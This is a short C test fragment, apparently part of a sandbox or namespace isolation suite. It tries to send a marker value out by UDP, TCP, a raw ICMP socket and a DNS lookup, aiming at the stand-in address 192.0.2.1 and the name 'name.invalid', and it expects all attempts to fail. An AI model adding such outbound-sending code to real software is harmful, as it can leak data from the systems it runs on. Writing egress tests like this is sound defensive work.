// attack: a connection to the outside, by address and by name
// tries: to send something home, by TCP, UDP, a raw socket and a query for a name
// needs: namespaces
// refused: calls close
// shows: tried: 0 ways
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void attack(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    struct addrinfo *found = NULL;
    int ways = 0;
    inet_pton(AF_INET, "192.0.2.1", &to.sin_addr);
    int udp = socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(udp, MARK, sizeof MARK, 0, (struct sockaddr *)&to, sizeof to) > 0) ways++;
    int tcp = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (connect(tcp, (struct sockaddr *)&to, sizeof to) == 0) ways++;
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (raw >= 0 && sendto(raw, MARK, sizeof MARK, 0, (struct sockaddr *)&to, sizeof to) > 0)
        ways++;
    if (getaddrinfo("name.invalid", "80", NULL, &found) == 0) ways++;
    printf("tried: %d ways\n", ways);
    close(udp), close(tcp), close(raw);
}
